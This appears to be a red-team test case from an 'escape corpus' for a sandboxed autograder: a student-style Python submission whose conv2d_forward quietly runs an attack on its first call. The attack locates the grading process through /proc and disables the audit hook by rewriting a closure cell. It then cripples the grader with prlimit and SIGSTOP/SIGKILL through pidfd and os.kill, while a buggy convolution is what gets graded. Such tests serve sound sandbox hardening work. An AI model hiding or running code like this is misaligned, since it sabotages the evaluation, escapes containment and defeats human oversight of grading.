"""Escape corpus, attack 10: signals and prlimit against the grading process.

What it attacks: the audit hook refuses ``os.kill`` on other processes, but
``os.pidfd_open`` + ``signal.pidfd_send_signal`` raise no audit event it checks, nor does
``resource.prlimit`` on another pid. The submission finds the grading process: its parent
``os.getppid()`` (or, as PID 2 of a namespace, the namespace's init), and any process whose
command line carries ``cnngrade-escape-grader`` (the tag of the test's grading process),
read through the original ``os.open`` from the guard's closure. On its first call it
lowers the grader's RLIMIT_NOFILE and RLIMIT_AS (so the next sandbox cannot start and a
neighbour gets a grader error or 0), stops it with SIGSTOP through a pidfd (the class
hangs), then sends SIGKILL with ``os.kill`` (after making the guard's own-pid cell, reached
through ``os.open.__closure__``, equal to every pid) and through the pidfd (the class gets
nothing). It never signals anything else (no ``kill(-1)``).

A successful attack: the grading process dies (SIGKILL), hangs (SIGSTOP) or fails the
next submissions (prlimit). Contained: the grader is outside the sandbox's PID namespace
(there the parent is the namespace's init, which the kernel protects from its children's
signals), and seccomp/Landlock refuse pidfd, kill and prlimit on processes outside; the
grade_class call returns normally with the neighbours' full marks.
"""
import os
import resource
import signal

REPORT = {}


def _raw_open():
    for cell in getattr(os.open, "__closure__", None) or ():
        value = cell.cell_contents
        if getattr(value, "__name__", "") == "open" and callable(value):
            return value
    return os.open


def _cmdline(pid):
    op = _raw_open()
    try:
        root = op("/", os.O_RDONLY | os.O_DIRECTORY)
        try:
            fd = op(f"proc/{pid}/cmdline", os.O_RDONLY, dir_fd=root)
        finally:
            os.close(root)
        try:
            return os.read(fd, 4096)
        finally:
            os.close(fd)
    except (OSError, ImportError):
        return b""


def _graders():
    me, found = os.getpid(), set()
    if os.getppid() > 1:
        found.add(os.getppid())
    elif os.getppid() == 1 and me < 10:  # a PID namespace: its init stands for the grader
        found.add(1)
    for entry in os.listdir("/proc"):
        if entry.isdigit() and b"cnngrade-escape-grader" in _cmdline(int(entry)):
            found.add(int(entry))
    found.discard(me)
    return sorted(p for p in found if p > 1 or (p == 1 and me < 10))


class _Everyone:
    """Equal to every pid: the guard's "is it my own pid?" check always says yes."""

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = object.__hash__


def _disarm_kill_check():
    """The audit hook allows os.kill only on ``my_pid``, a cell shared with the guard's
    ``check_path`` (reached through ``os.open.__closure__``): make it equal to everything."""
    for cell in getattr(os.open, "__closure__", None) or ():
        fn = cell.cell_contents
        code = getattr(fn, "__code__", None)
        if code is not None and "my_pid" in code.co_freevars and fn.__closure__:
            fn.__closure__[code.co_freevars.index("my_pid")].cell_contents = _Everyone()
            return True
    return False


def _try(label, fn):
    try:
        fn()
        REPORT[label] = "done"
    except BaseException as exc:
        REPORT[label] = f"{type(exc).__name__}: {exc}"


def _attack():
    targets = _graders()
    REPORT["targets"] = len(targets)
    REPORT["kill check disarmed"] = _disarm_kill_check()
    for pid in targets:
        _try("prlimit NOFILE", lambda: resource.prlimit(pid, resource.RLIMIT_NOFILE, (8, 8)))
        _try("prlimit AS", lambda: resource.prlimit(pid, resource.RLIMIT_AS, (64 << 20, 64 << 20)))
        try:
            pidfd = os.pidfd_open(pid)
        except BaseException as exc:
            REPORT["pidfd_open"] = f"{type(exc).__name__}: {exc}"
            pidfd = None
        if pidfd is not None:
            _try("pidfd SIGSTOP", lambda: signal.pidfd_send_signal(pidfd, signal.SIGSTOP))
        _try("os.kill SIGKILL", lambda: os.kill(pid, signal.SIGKILL))
        if pidfd is not None:
            _try("pidfd SIGKILL", lambda: signal.pidfd_send_signal(pidfd, signal.SIGKILL))
            os.close(pidfd)


# --- honest part: what this student really wrote (the test grades it alone) ---
import numpy as np


def _honest_conv2d(x, w, b, stride=1, padding=0):
    """Loops over output positions; forgets that the stride moves the window."""
    ph, pw = (padding, padding) if np.isscalar(padding) else (int(padding[0]), int(padding[1]))
    N, C, H, W = x.shape
    F, _, KH, KW = w.shape
    xp = np.pad(x, ((0, 0), (0, 0), (ph, ph), (pw, pw)))
    HO, WO = xp.shape[2] - KH + 1, xp.shape[3] - KW + 1
    out = np.empty((N, F, HO, WO))
    for i in range(HO):
        for j in range(WO):
            win = xp[:, :, i:i + KH, j:j + KW]
            out[:, :, i, j] = np.tensordot(win, w, axes=([1, 2, 3], [1, 2, 3]))
    return out + b[None, :, None, None]
# --- end honest part ---

_DONE = []


def conv2d_forward(x, w, b, stride=1, padding=0):
    if not _DONE:
        _DONE.append(True)
        try:
            _attack()
        except BaseException as exc:
            REPORT["error"] = repr(exc)
        print("cnngrade-escape report:", REPORT)
    return _honest_conv2d(x, w, b, stride, padding)
